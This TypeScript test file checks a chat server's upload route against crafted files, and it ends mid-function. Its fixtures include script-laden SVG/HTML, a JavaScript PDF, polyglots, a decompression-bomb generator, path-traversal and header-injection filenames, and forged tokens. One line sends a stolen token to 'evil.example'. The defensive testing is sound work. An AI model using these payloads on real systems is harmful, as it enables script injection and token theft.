/**
 * G10 hostile files (S-DLG-9): the server half of "no script injection". Issue 14 calls this G11,
 * but G11 is the reconnect storm; G10's other half (visitor text rendered in Chromium) stays in
 * the browser suite (`packages/elements/test/g10-xss.test.ts`).
 *
 * A visitor and the staff member who took their conversation upload crafted files and requests
 * through the real routes of a real server process: files that are scripts or programs in
 * disguise, polyglots, images with smuggled bytes or a location, broken and bomb images, names
 * that are paths, headers or bidi tricks, malformed multipart, wrong or forged tokens, uploads that
 * stall or are aborted. Each must be either refused (4xx, `{error: {code, message}}` in a protocol
 * code; a stalled or aborted upload may instead be cut) or stored and then — sent in a message —
 * served safely to the other party and to the uploader: `nosniff`, a sandboxing CSP, never a type
 * a browser runs, `inline` only for images the server wrote itself, a clean name, images decodable
 * with no EXIF and nothing appended, a thumbnail only for images. Afterwards the temp folder is
 * empty, the process is up and its memory bounded.
 */
import { createHash, createHmac, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import http, { type IncomingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { errorCodes, limits } from '@chatdesk/protocol';
import { SECRET, ServerProcess, userToken } from '../lib/server-process.js';
import type { ProbeClient } from '../lib/probe-client.js';
import { cmid, connected, fmt, openConversations, probe, sleep } from '../lib/world.js';

export interface G10Options {
  /** Times the whole set is tried (the same server, fresh uploads each time). */
  rounds: number;
  /** The decompression bomb's side in pixels (a 1-bit PNG of one colour). */
  bombSide: number;
  /** `--upload-idle-ms` of the server: a stalled upload must be cut off after about this. */
  idleMs: number;
}

export const g10Quick: G10Options = { rounds: 1, bombSide: 20_000, idleMs: 1_000 };
export const g10Full: G10Options = { rounds: 3, bombSide: 100_000, idleMs: 1_000 };

type Who = 'visitor' | 'staff';
/** What an entry may end as: stored (and then served safely), refused (4xx), either, or cut off (stall/abort only). */
type Expect = 'stored' | 'refused' | 'either' | 'cut';
type Category = 'file' | 'name' | 'request';

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: Buffer;
}
type Outcome = { kind: 'answer'; answer: Answer; ms: number } | { kind: 'cut'; error: string; ms: number } | { kind: 'hung'; ms: number };

interface Ctx {
  server: ServerProcess;
  tokens: Record<Who, string>;
  /** The WebSocket (hello) tokens, which must not open the file routes. */
  sessionTokens: Record<Who, string>;
  idleMs: number;
}

interface Entry {
  /** What it is, for the report. */
  name: string;
  category: Category;
  by: Who;
  expect: Expect;
  /** The refusal's code when `expect` is refused. */
  code?: string;
  /** The bytes sent as the file, when the request carries one whole file (compared with what is served). */
  bytes?: Buffer;
  /** The kind it must be stored as. */
  kind?: 'image' | 'file' | 'audio';
  /** Served bytes must not contain this (bytes smuggled after an image). */
  notServed?: Buffer;
  /** Extra checks of the stored attachment (its name). */
  checkFile?: (file: StoredFile) => string | undefined;
  send: (ctx: Ctx) => Promise<Outcome>;
}

interface StoredFile {
  id: number;
  kind: string;
  name: string;
  size: number;
  mime: string;
  thumb?: { width: number; height: number };
}

const SAFE_INLINE = new Set(['image/png', 'image/jpeg', 'image/gif', 'image/webp']);
const ZIP_MAGIC = Buffer.from('PK\x03\x04', 'latin1');
const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
/** Requests whose answer does not come within this are "hung" (the 20 MiB ones included). */
const REQUEST_TIMEOUT_MS = 30_000;

// ---- HTTP with raw bytes ---------------------------------------------------------------------

/**
 * One request on its own connection, written by `write` (which may stall or destroy it): its
 * answer, or the connection cut before one came, or nothing within `waitMs`.
 */
function request(ctx: Ctx, method: string, path: string, headers: Record<string, string>, write: (req: http.ClientRequest) => void, waitMs = REQUEST_TIMEOUT_MS): Promise<Outcome> {
  const started = Date.now();
  return new Promise((resolve) => {
    let settled = false;
    const done = (o: Outcome) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve(o);
    };
    const req = http.request(`${ctx.server.url}${path}`, { method, headers, agent: false });
    const timer = setTimeout(() => {
      done({ kind: 'hung', ms: Date.now() - started });
      req.destroy();
    }, waitMs);
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      const finish = () => done({ kind: 'answer', answer: { status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }, ms: Date.now() - started });
      res.on('end', finish);
      res.on('close', finish);
      res.on('error', finish);
    });
    req.on('error', (e) => done({ kind: 'cut', error: (e as NodeJS.ErrnoException).code ?? e.message, ms: Date.now() - started }));
    write(req);
  });
}

function get(ctx: Ctx, path: string, headers: Record<string, string> = {}): Promise<Outcome> {
  return request(ctx, 'GET', path, headers, (req) => req.end());
}

function post(ctx: Ctx, headers: Record<string, string>, body: Buffer): Promise<Outcome> {
  return request(ctx, 'POST', '/api/files', { 'content-length': String(body.length), ...headers }, (req) => req.end(body));
}

interface Part {
  /** The form field's name (default `file`). */
  field?: string;
  /** The filename parameter as raw UTF-8 bytes (CR, LF, NUL, quotes left as they are); absent: none. */
  filename?: string;
  /** Encode the filename as browsers do (CR, LF and `"` as %0D, %0A, %22). */
  htmlEncoded?: boolean;
  /** The filename parameter as these bytes (invalid UTF-8), instead of `filename`. */
  rawFilename?: Buffer;
  /** An RFC 5987 `filename*` parameter (percent-encoded here). */
  filenameStar?: string;
  type?: string;
  /** Raw header lines added to the part. */
  extra?: string;
  body: Buffer;
}

function multipart(parts: Part[], boundary: string, close = true): Buffer {
  const out: Buffer[] = [];
  for (const p of parts) {
    let head = `--${boundary}\r\nContent-Disposition: form-data; name="${p.field ?? 'file'}"`;
    if (p.filename !== undefined) head += `; filename="${p.htmlEncoded ? p.filename.replace(/\n/g, '%0A').replace(/\r/g, '%0D').replace(/"/g, '%22') : p.filename}"`;
    if (p.rawFilename) {
      out.push(Buffer.from(`${head}; filename="`, 'utf8'), p.rawFilename);
      head = '"';
    }
    if (p.filenameStar !== undefined) head += `; filename*=UTF-8''${encodeURIComponent(p.filenameStar)}`;
    head += '\r\n';
    if (p.type) head += `Content-Type: ${p.type}\r\n`;
    if (p.extra) head += p.extra;
    out.push(Buffer.from(`${head}\r\n`, 'utf8'), p.body, Buffer.from('\r\n'));
  }
  if (close) out.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(out);
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/** The usual upload: one part named `file`, with the uploader's file token. */
function upload(by: Who, body: Buffer, filename: string, type = 'application/octet-stream', part: Partial<Part> = {}) {
  return (ctx: Ctx) => {
    const boundary = `g10-${randomBytes(8).toString('hex')}`;
    return post(ctx, { ...bearer(ctx.tokens[by]), 'content-type': `multipart/form-data; boundary=${boundary}` }, multipart([{ filename, type, body, ...part }], boundary));
  };
}

// ---- crafted files ---------------------------------------------------------------------------

function zip(files: Array<{ name: string; data: Buffer }>): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name);
    const crc = zlib.crc32(f.data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(10, 4);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(f.data.length, 18);
    lh.writeUInt32LE(f.data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(10, 6);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(f.data.length, 20);
    ch.writeUInt32LE(f.data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    local.push(lh, name, f.data);
    central.push(ch, name);
    offset += lh.length + name.length + f.data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, cd, end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(td));
  return Buffer.concat([len, td, crc]);
}

/** A `side`×`side` PNG of one colour, 1 bit per pixel: a few hundred KB that decode to gigabytes. */
async function bombPng(side: number): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const deflate = zlib.createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const row = 1 + Math.ceil(side / 8);
  const block = Buffer.alloc(row * Math.max(1, Math.floor((4 << 20) / row)));
  for (let left = row * side; left > 0; left -= block.length) {
    if (!deflate.write(left >= block.length ? block : block.subarray(0, left))) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  const sig = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([sig, pngChunk('IHDR', ihdr), pngChunk('IDAT', Buffer.concat(out)), pngChunk('IEND', Buffer.alloc(0))]);
}

interface Fixtures {
  png: Buffer;
  noisyPng: Buffer;
  jpeg: Buffer;
  gpsJpeg: Buffer;
  gif: Buffer;
  animatedGif: Buffer;
  webp: Buffer;
  avif: Buffer;
  tiff: Buffer;
  bomb: Buffer;
  exe: Buffer;
  pdf: Buffer;
  jar: Buffer;
  payloadZip: Buffer;
  exact: Buffer;
  over: Buffer;
}

async function makeFixtures(opts: G10Options): Promise<Fixtures> {
  const noise = { type: 'gaussian' as const, mean: 128, sigma: 40 };
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 10, g: 120, b: 200 } } }).png().toBuffer();
  const noisyPng = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#808080', noise } }).png().toBuffer();
  const jpeg = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#808080', noise } }).jpeg({ quality: 80 }).toBuffer();
  // As phones write them: turned (orientation 6), with a maker and a GPS position.
  const gpsJpeg = await sharp({ create: { width: 120, height: 60, channels: 3, background: { r: 200, g: 30, b: 30 } } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({ IFD0: { Make: 'PhoneCo', Model: 'G10' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '37/1 37/1 0/1' } })
    .toBuffer();
  const gif = await sharp({ create: { width: 16, height: 16, channels: 4, background: { r: 255, g: 0, b: 0, alpha: 1 } } }).gif().toBuffer();
  const frames = 3;
  const raw = Buffer.alloc(32 * 32 * 4 * frames);
  for (let i = 0; i < raw.length; i += 4) {
    const frame = Math.floor(i / (32 * 32 * 4));
    raw[i + frame] = 255;
    raw[i + 3] = 255;
  }
  const animatedGif = await sharp(raw, { raw: { width: 32, height: 32 * frames, channels: 4, pageHeight: 32 } }).gif({ delay: [100, 100, 100], loop: 0 }).toBuffer();
  const webp = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'green' } }).webp().toBuffer();
  const avif = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'purple' } }).avif().toBuffer();
  const tiff = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'orange' } }).tiff().toBuffer();
  const bomb = await bombPng(opts.bombSide);
  const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
  if (meta.width !== opts.bombSide || meta.height !== opts.bombSide || opts.bombSide ** 2 <= limits.maxImagePixels || bomb.length > 2 * 1024 * 1024) {
    throw new Error(`G10: the bomb is not one (${meta.width}×${meta.height}, ${bomb.length} bytes)`);
  }
  const exe = Buffer.alloc(1024);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write('PE\0\0', 0x80, 'latin1');
  exe.writeUInt16LE(0x14c, 0x84);
  const pdf = Buffer.from(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(document.cookie\\))>>>>endobj\n' +
      '2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );
  const jar = zip([
    { name: 'META-INF/MANIFEST.MF', data: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n') },
    { name: 'Evil.class', data: Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) },
  ]);
  const payloadZip = zip([{ name: 'payload.html', data: Buffer.from('<script>alert(document.cookie)</script>') }]);
  const exact = randomBytes(limits.maxSendBytes);
  const over = Buffer.concat([exact, Buffer.from([0x42])]);
  return { png, noisyPng, jpeg, gpsJpeg, gif, animatedGif, webp, avif, tiff, bomb, exe, pdf, jar, payloadZip, exact, over };
}

// ---- the entries -------------------------------------------------------------------------------

const text = (s: string) => Buffer.from(s, 'utf8');
const SCRIPT = '<script>alert(document.cookie)</script>';

function catalogue(f: Fixtures, opts: G10Options): Entry[] {
  const entries: Entry[] = [];
  const file = (name: string, by: Who, bytes: Buffer, filename: string, type: string, more: Partial<Entry> = {}) =>
    entries.push({ name, category: 'file', by, expect: 'stored', bytes, send: upload(by, bytes, filename, type), ...more });
  const named = (name: string, filename: string, more: Partial<Entry> = {}, part: Partial<Part> = {}, bytes: Buffer = text(`a file named: ${name}`)) =>
    entries.push({ name, category: 'name', by: 'visitor', expect: 'stored', bytes, send: upload('visitor', bytes, filename, 'text/plain', part), ...more });
  const broken = (name: string, e: Omit<Entry, 'name' | 'category' | 'by'> & { by?: Who }) => entries.push({ by: 'visitor', category: 'request', name, ...e });

  // Files that are not what they say.
  const svg = text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`);
  file('SVG with <script>', 'visitor', svg, 'logo.svg', 'image/svg+xml', { kind: 'file' });
  file('SVG with <script>, from staff', 'staff', svg, 'logo.svg', 'image/svg+xml', { kind: 'file' });
  file('SVG named .png, sent as image/png', 'visitor', svg, 'cat.png', 'image/png', { kind: 'file' });
  file('HTML with a script named .jpg', 'visitor', text(`<!doctype html><html><body>${SCRIPT}</body></html>`), 'photo.jpg', 'image/jpeg', { kind: 'file' });
  file('HTML with a script named .html, from staff', 'staff', text(`<html>${SCRIPT}</html>`), 'page.html', 'text/html', { kind: 'file' });
  file('XHTML with a script', 'visitor', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`), 'page.xhtml', 'application/xhtml+xml', { kind: 'file' });
  file('JavaScript sent as image/png', 'visitor', text('fetch("/api/visitor/token").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t));'), 'chart.png', 'image/png', { kind: 'file' });
  file('EXE (MZ header) sent as image/png', 'visitor', f.exe, 'setup.png', 'image/png', { kind: 'file' });
  file('PDF with /JavaScript', 'visitor', f.pdf, 'invoice.pdf', 'application/pdf', { kind: 'file' });
  file('GIFAR polyglot (a GIF, then a JAR)', 'visitor', Buffer.concat([f.gif, f.jar]), 'avatar.gif', 'image/gif', { notServed: ZIP_MAGIC });
  file('PNG with a ZIP appended', 'visitor', Buffer.concat([f.png, f.payloadZip]), 'chart.png', 'image/png', { kind: 'image', notServed: ZIP_MAGIC });
  file('JPEG with EXIF GPS and orientation', 'visitor', f.gpsJpeg, 'IMG_0001.jpg', 'image/jpeg', { kind: 'image' });
  file('JPEG with EXIF GPS, from staff', 'staff', f.gpsJpeg, 'IMG_0002.jpg', 'image/jpeg', { kind: 'image' });
  file('truncated PNG', 'visitor', f.noisyPng.subarray(0, Math.floor(f.noisyPng.length / 2)), 'half.png', 'image/png');
  const corrupt = Buffer.from(f.jpeg);
  randomBytes(Math.floor(corrupt.length / 4)).copy(corrupt, Math.floor(corrupt.length * 0.4));
  file('corrupt JPEG (a quarter overwritten)', 'visitor', corrupt, 'broken.jpg', 'image/jpeg');
  file(`decompression bomb PNG ${fmt(opts.bombSide)}² (${fmt(f.bomb.length)} bytes)`, 'visitor', f.bomb, 'bomb.png', 'image/png', { kind: 'file' });
  file('animated GIF', 'visitor', f.animatedGif, 'anim.gif', 'image/gif', { kind: 'image' });
  file('WebP', 'visitor', f.webp, 'pic.webp', 'image/webp', { kind: 'image' });
  file('AVIF (kept as a file)', 'visitor', f.avif, 'pic.avif', 'image/avif', { kind: 'file' });
  file('TIFF (kept as a file)', 'visitor', f.tiff, 'scan.tiff', 'image/tiff', { kind: 'file' });
  file('zero-byte file', 'visitor', Buffer.alloc(0), 'empty.png', 'image/png', { kind: 'file' });
  file(`exactly limits.maxSendBytes (${fmt(limits.maxSendBytes)} bytes)`, 'visitor', f.exact, 'exact.bin', 'application/octet-stream', { kind: 'file' });
  entries.push({ name: 'limits.maxSendBytes + 1', category: 'file', by: 'visitor', expect: 'refused', code: 'LIMIT_EXCEEDED', send: upload('visitor', f.over, 'over.bin') });
  entries.push({
    name: 'limits.maxSendBytes + 1, chunked (no Content-Length)',
    category: 'file',
    by: 'visitor',
    expect: 'refused',
    code: 'LIMIT_EXCEEDED',
    send: (ctx) => {
      const boundary = 'g10-chunked';
      const body = multipart([{ filename: 'over.bin', type: 'application/octet-stream', body: f.over }], boundary);
      return request(ctx, 'POST', '/api/files', { ...bearer(ctx.tokens.visitor), 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked' }, (req) => {
        for (let i = 0; i < body.length; i += 1 << 20) req.write(body.subarray(i, i + (1 << 20)));
        req.end();
      });
    },
  });

  // Names.
  const cleanName = (want: (n: string) => boolean, what: string) => (fl: StoredFile) => (want(fl.name) ? undefined : `stored name ${JSON.stringify(fl.name)}: ${what}`);
  named('name ../../etc/passwd', '../../etc/passwd');
  named('name ..\\..\\boot.ini', '..\\..\\windows\\boot.ini');
  named('name ../ percent-encoded in filename*', 'x.txt', {}, { filename: undefined, filenameStar: '../../etc/passwd' });
  named('name with a NUL inside', 'report\0.exe.txt');
  // Raw CR/LF ends the part's header line: what follows is a header of the part, then its body (bytes not compared).
  named('name with raw CR/LF (header injection)', 'a\r\nContent-Type: text/html\r\n\r\nx.txt', { expect: 'either', bytes: undefined }, {}, f.png);
  named('name with CR/LF as browsers encode them', 'a\r\nContent-Type: text/html\r\n\r\nx.txt', {}, { htmlEncoded: true }, f.png);
  named('name with CR/LF in filename*', 'x.txt', { expect: 'either' }, { filename: undefined, filenameStar: 'a\r\nSet-Cookie: g10=1\r\n\r\nx.txt' }, f.png);
  named('name with a right-to-left override', 'invoice\u202Efdp.exe', { checkFile: cleanName((n) => n === 'invoicefdp.exe', 'want "invoicefdp.exe"') });
  named('name with bidi isolates and zero-width characters', '\u2067exe.\u2069\u200Btxt\uFEFF.pdf');
  named('name of 10,000 characters', `${'a'.repeat(9_996)}.txt`, { checkFile: cleanName((n) => [...n].length === limits.maxFileNameChars && n.endsWith('.txt'), 'want 255 code points ending .txt') });
  named('name of 10,000 Cyrillic characters (20 KB of part header)', `${'я'.repeat(9_996)}.txt`, { expect: 'either' });
  named('name of 300 emoji', `${'😀'.repeat(300)}.png`, { checkFile: cleanName((n) => [...n].length === limits.maxFileNameChars, 'want 255 code points') }, {}, f.png);
  named('empty name', '');
  named('name of only dots', '...');
  named('name ..', '..');
  named('name of only spaces', '     ');
  named('name with quotes and semicolons', '"; filename=evil.html', { expect: 'either' });
  named('name with quotes and semicolons, browser-encoded', '"; filename=evil.html; x="', {}, { htmlEncoded: true }, f.png);
  named('emoji name', '😀 отчёт 🎉.png', {}, {}, f.png);
  named('Cyrillic name', 'Счёт-фактура №5 от 01.12.pdf', {}, {}, f.pdf);
  named('Windows reserved name CON', 'CON');
  named('Windows reserved name nul.txt', 'nul.txt');
  named('name with invalid UTF-8 bytes', 'x.txt', {}, { filename: undefined, rawFilename: Buffer.from([0x66, 0xc3, 0x28, 0xff, 0xed, 0xa0, 0x80, 0x2e, 0x74, 0x78, 0x74]) });
  named('name with U+2028 and tabs', 'line\u2028sep\tand\ttabs.txt');
  named('no filename, a part of type file', '', { expect: 'either' }, { filename: undefined });

  // Broken requests.
  const form = (boundary: string) => ({ 'content-type': `multipart/form-data; boundary=${boundary}` });
  const two = multipart([{ filename: 'one.txt', type: 'text/plain', body: text('one') }, { filename: 'two.html', type: 'text/html', body: text(SCRIPT) }], 'g10-two');
  broken('two file parts in one request', { expect: 'either', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-two') }, two) });
  const fieldFirst = multipart([{ field: 'note', body: text('hello') }, { filename: 'after-field.txt', type: 'text/plain', body: text('after a field') }], 'g10-field');
  broken('a text field, then the file', { expect: 'either', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-field') }, fieldFirst) });
  const fieldAfter = multipart([{ filename: 'before-field.txt', type: 'text/plain', body: text('before a field') }, { field: 'note', body: text('hello') }], 'g10-field2');
  broken('the file, then a text field', { expect: 'either', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-field2') }, fieldAfter) });
  broken('a part named "upload", not "file"', { expect: 'either', send: upload('visitor', text('other field'), 'other.txt', 'text/plain', { field: 'upload' }) });
  broken('no file part (a text field only)', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-none') }, multipart([{ field: 'note', body: text('no file') }], 'g10-none')) });
  broken('no part at all (only the closing boundary)', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-empty') }, text('--g10-empty--\r\n')) });
  broken('an empty body', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-empty') }, Buffer.alloc(0)) });
  broken('a JSON body', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), 'content-type': 'application/json' }, text(JSON.stringify({ file: f.png.toString('base64'), name: 'x.png' }))) });
  broken('multipart without a boundary', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), 'content-type': 'multipart/form-data' }, multipart([{ filename: 'x.txt', body: text('x') }], 'g10-lost')) });
  broken('multipart whose body has another boundary', { expect: 'refused', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-said') }, multipart([{ filename: 'x.txt', body: text('x') }], 'g10-other')) });
  broken('multipart/mixed', { expect: 'either', send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), 'content-type': 'multipart/mixed; boundary=g10-mixed' }, multipart([{ filename: 'x.txt', body: text('mixed') }], 'g10-mixed')) });
  broken('no Content-Type', { expect: 'refused', send: (ctx) => post(ctx, bearer(ctx.tokens.visitor), multipart([{ filename: 'x.txt', body: text('x') }], 'g10-noct')) });
  broken('a multipart body cut before its closing boundary', {
    expect: 'refused',
    send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-open') }, multipart([{ filename: 'open.txt', type: 'text/plain', body: text('never closed') }], 'g10-open', false).subarray(0, -2)),
  });
  broken('a part with 40 header lines', {
    expect: 'either',
    send: upload('visitor', text('many headers'), 'headers.txt', 'text/plain', { extra: Array.from({ length: 40 }, (_, i) => `X-H${i}: ${i}\r\n`).join('') }),
  });
  broken('a gzip Content-Encoding body', {
    expect: 'either',
    send: (ctx) => post(ctx, { ...bearer(ctx.tokens.visitor), ...form('g10-gz'), 'content-encoding': 'gzip' }, zlib.gzipSync(multipart([{ filename: 'gz.txt', body: text('gzipped') }], 'g10-gz'))),
  });
  broken('a declared Content-Length over the limit', {
    expect: 'refused',
    code: 'LIMIT_EXCEEDED',
    send: (ctx) =>
      request(ctx, 'POST', '/api/files', { ...bearer(ctx.tokens.visitor), ...form('g10-big'), 'content-length': String(limits.maxSendBytes * 2) }, (req) => {
        req.write(multipart([{ filename: 'big.bin', body: Buffer.alloc(1024) }], 'g10-big', false));
      }, 5_000),
  });

  // Tokens.
  const authCase = (name: string, header: (ctx: Ctx) => Record<string, string>) =>
    broken(name, { expect: 'refused', code: 'UNAUTHENTICATED', send: (ctx) => post(ctx, { ...header(ctx), ...form('g10-auth') }, multipart([{ filename: 'x.png', type: 'image/png', body: f.png }], 'g10-auth')) });
  const fileKey = createHmac('sha256', SECRET).update('chatdesk files v1').digest();
  const signed = (key: Buffer, payload: object) => {
    const body = Buffer.from(JSON.stringify(payload)).toString('base64url');
    return `${body}.${createHmac('sha256', key).update(body).digest('base64url')}`;
  };
  const admin = { k: 'u', id: 'g10-admin', name: 'Admin', rights: ['chats', 'admin'] };
  authCase('no token', () => ({}));
  authCase('an empty Bearer', () => ({ authorization: 'Bearer ' }));
  authCase('a forged token (garbage)', () => bearer('abc.def'));
  authCase('a forged token (payload changed, signature kept)', (ctx) => {
    const sig = ctx.tokens.visitor.split('.')[1] ?? '';
    return bearer(`${Buffer.from(JSON.stringify({ v: 1, kind: 'files', exp: Date.now() + 60_000, actor: admin })).toString('base64url')}.${sig}`);
  });
  authCase('a forged token (signed with the secret itself, not the file key)', () => bearer(signed(Buffer.from(SECRET), { v: 1, kind: 'files', exp: Date.now() + 60_000, actor: admin })));
  authCase('an expired file token', () => bearer(signed(fileKey, { v: 1, kind: 'files', exp: Date.now() - 1_000, actor: admin })));
  authCase('a token over limits.maxTokenChars', (ctx) => bearer(`${ctx.tokens.visitor}${'A'.repeat(limits.maxTokenChars)}`));
  authCase('the visitor\'s session token instead of a file token', (ctx) => bearer(ctx.sessionTokens.visitor));
  authCase('the staff member\'s user token instead of a file token', (ctx) => bearer(ctx.sessionTokens.staff));
  authCase('a Basic authorization', (ctx) => ({ authorization: `Basic ${Buffer.from(`x:${ctx.tokens.visitor}`).toString('base64')}` }));

  // Streams that stall or break.
  const stall = (name: string, sent: (boundary: string) => Buffer) =>
    broken(name, {
      expect: 'cut',
      send: (ctx) => {
        const boundary = 'g10-stall';
        return request(ctx, 'POST', '/api/files', { ...bearer(ctx.tokens.visitor), ...form(boundary), 'content-length': String(1_000_000) }, (req) => req.write(sent(boundary)), ctx.idleMs + 4_000);
      },
    });
  const head = (boundary: string) => `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="slow.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`;
  stall('an upload that stalls after 64 KiB of its file', (b) => Buffer.concat([text(head(b)), randomBytes(64 * 1024)]));
  stall('an upload that stalls inside its part headers', (b) => text(head(b).slice(0, 50)));
  stall('an upload that stalls before its body', () => Buffer.alloc(0));
  broken('an upload whose client aborts halfway (socket destroyed)', {
    expect: 'cut',
    send: async (ctx) => {
      const boundary = 'g10-abort';
      const started = Date.now();
      const answer = await request(ctx, 'POST', '/api/files', { ...bearer(ctx.tokens.visitor), ...form(boundary), 'content-length': String(2_000_000) }, (req) => {
        req.write(Buffer.concat([text(head(boundary)), randomBytes(1_000_000)]), () => setTimeout(() => req.destroy(), 100));
      }, 5_000);
      return answer.kind === 'cut' ? { kind: 'cut', error: 'aborted by the client', ms: Date.now() - started } : answer;
    },
  });
  return entries;
}

// ---- checks of what is served --------------------------------------------------------------------

/** Splits a Content-Disposition into its type and parameters, honouring quotes. */
function dispositionParams(value: string): { type: string; params: Array<[string, string]> } {
  const parts: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < value.length; i++) {
    const c = value[i]!;
    if (c === '"' && value[i - 1] !== '\\') quoted = !quoted;
    if (c === ';' && !quoted) {
      parts.push(cur);
      cur = '';
    } else cur += c;
  }
  parts.push(cur);
  const [type = '', ...rest] = parts.map((p) => p.trim());
  return { type: type.toLowerCase(), params: rest.map((p) => [p.slice(0, p.indexOf('=')).trim().toLowerCase(), p.slice(p.indexOf('=') + 1).trim()] as [string, string]) };
}

/** The served headers of a file's content (or thumbnail) route: problems, empty when safe. */
function headerProblems(h: IncomingHttpHeaders, file: StoredFile, route: 'content' | 'thumb'): string[] {
  const out: string[] = [];
  if (h['x-content-type-options'] !== 'nosniff') out.push(`X-Content-Type-Options ${JSON.stringify(h['x-content-type-options'])}`);
  const csp = String(h['content-security-policy'] ?? '');
  if (!csp.split(';').some((d) => d.trim().split(/\s+/)[0]?.toLowerCase() === 'sandbox')) out.push(`Content-Security-Policy without sandbox: ${JSON.stringify(csp)}`);
  const type = String(h['content-type'] ?? '').split(';')[0]!.trim().toLowerCase();
  if (!type || type === 'text/html' || type === 'application/xhtml+xml' || type === 'image/svg+xml' || type.startsWith('text/') || type.includes('script') || type.includes('html') || type.includes('xml')) {
    out.push(`Content-Type ${JSON.stringify(h['content-type'])}, a type browsers render and run scripts in`);
  }
  if (route === 'content' && type !== file.mime) out.push(`Content-Type ${type} is not the attachment's mime ${file.mime}`);
  if (route === 'thumb' && type !== 'image/webp') out.push(`thumbnail Content-Type ${type}`);
  const cd = String(h['content-disposition'] ?? '');
  if (/[\r\n\0]/.test(cd)) out.push(`Content-Disposition holds CR, LF or NUL: ${JSON.stringify(cd)}`);
  const { type: disp, params } = dispositionParams(cd);
  const inline = route === 'thumb' || (file.kind === 'image' && SAFE_INLINE.has(file.mime));
  if (disp !== (inline ? 'inline' : 'attachment')) out.push(`Content-Disposition ${JSON.stringify(cd.slice(0, 80))} for kind ${file.kind} ${file.mime}, want ${inline ? 'inline' : 'attachment'}`);
  const names = params.filter(([k]) => k === 'filename');
  const stars = params.filter(([k]) => k === 'filename*');
  const others = params.filter(([k]) => k !== 'filename' && k !== 'filename*');
